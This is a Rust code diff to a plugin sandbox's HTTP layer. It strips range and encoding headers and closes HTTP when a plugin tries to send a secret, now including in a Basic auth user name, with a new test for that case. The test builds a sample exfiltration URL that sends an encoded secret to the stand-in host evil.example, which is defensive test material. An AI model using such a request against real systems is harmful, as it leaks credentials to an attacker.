@@ -50,6 +50,11 @@ pub const HOST_HEADERS: &[&str] = &[
     "upgrade",
     "host",
     "expect",
+    // The body the guest reads is what the redactor scrubbed: no compressed echo (the
+    // client decodes nothing) and no range that cuts a secret into pieces.
+    "accept-encoding",
+    "range",
+    "if-range",
 ];
 /// Most bytes allocated for a body before they arrive, whatever its announced size.
 const MAX_PREALLOCATED: u64 = 8 << 20;
@@ -325,7 +330,8 @@ impl<'a> Call<'a> {
                 || req.headers.iter().any(|(k, v)| {
                     !r.find(k.as_bytes()).is_empty() || !r.find(v.as_bytes()).is_empty()
                 })
-                || req.body.as_ref().is_some_and(|b| !r.find(b).is_empty()));
+                || req.body.as_ref().is_some_and(|b| !r.find(b).is_empty())
+                || matches!(&req.auth, Auth::Basic(b) if !r.find(b.username.as_bytes()).is_empty()));
         if carries && !http.closed.swap(true, Ordering::SeqCst) {
             let rule = "the plugin sent a secret value it was never given; HTTP is closed for the rest of this run";
             self.record(&self.run.stats.denials, "http", "request", rule);
@@ -1240,7 +1246,19 @@ mod tests {
             matches!(&err, HttpError::Invalid(m) if m.contains("bad header")),
             "{err:?}"
         );
-        // ...the right one, in any spelling, closes the run's HTTP: never `[REDACTED]`.
+        // ...the right one, in any spelling or place (a Basic user name too), closes the
+        // run's HTTP: never `[REDACTED]`.
+        let (_, mut basic) = sim().await;
+        let mut req = get(format!("{}/api/items", server.origin()));
+        req.auth = Auth::Basic(crate::bindings::http::BasicAuth {
+            username: SECRET.into(),
+            password_secret: "token".into(),
+        });
+        let err = Host::fetch(&mut basic, req).await.unwrap_err();
+        assert!(
+            matches!(&err, HttpError::Denied(m) if m.starts_with("HTTP is closed")),
+            "{err:?}"
+        );
         let encoded = SECRET.replace('-', "%2D");
         let guess = format!("https://evil.example/?guess={encoded}");
         let closed =
